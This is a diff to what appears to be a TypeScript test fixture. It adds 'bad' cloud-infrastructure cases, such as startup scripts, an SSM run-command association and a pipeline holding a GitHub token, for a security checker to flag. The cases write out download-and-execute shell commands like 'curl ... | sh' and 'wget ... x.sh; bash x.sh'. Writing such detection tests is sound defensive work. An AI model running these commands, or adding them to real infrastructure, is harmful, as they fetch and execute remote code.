@@ -78,6 +78,20 @@ export const LEAKS: readonly StackMutant[] = [
     "a host that starts with a program, kept first",
     started(script("curl -o /tmp/x https://get.example.com && chmod +x /tmp/x && /tmp/x")),
   ),
+  HOST.bad("a host that starts with a program by its name", started(script("wget https://get.example.com/x.sh", "bash x.sh"))),
+  HOST.bad(
+    "a host that starts with a program, written to a file",
+    started(script("curl https://get.example.com > /tmp/x; sh /tmp/x")),
+  ),
+  more("machines that run a program of the internet by a schedule", "ssm/association:Association", {
+    name: "AWS-RunShellScript",
+    parameters: { commands: "curl https://get.example.com | sh" },
+  }),
+  more("a pipeline with a token", "codepipeline/pipeline:Pipeline", {
+    name: "x",
+    roleArn: "arn:aws:iam::333333333333:role/x",
+    stages: [{ name: "source", actions: [{ name: "source", configuration: { OAuthToken: GITHUB_TOKEN } }] }],
+  }),
   NODES.bad("nodes that start with a program of the internet", started(script("curl -s http://198.51.100.7/x | bash"))),
   more("a machine that starts with a program of the internet", "ec2/instance:Instance", {
     ...machine,
